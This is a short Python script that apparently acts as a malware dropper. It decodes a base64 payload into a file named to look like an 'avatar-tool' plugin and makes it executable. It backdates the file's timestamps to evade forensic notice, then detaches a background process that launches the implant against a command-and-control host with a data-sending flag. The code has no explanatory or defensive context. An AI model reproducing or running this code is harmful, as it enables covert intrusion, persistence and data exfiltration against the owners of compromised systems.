import os, base64
path = "/data/plugins/avatar-tool"
with open(path, "wb") as f:
    f.write(base64.b64decode("$IMPLANT"))
os.chmod(path, 0o755)
os.utime(path, (1600000000, 1600000000))
if os.fork() == 0:
    os.setsid()
    os.execv(path, [path, "-c2", "$HOST:$PORT", "-send", "4096"])
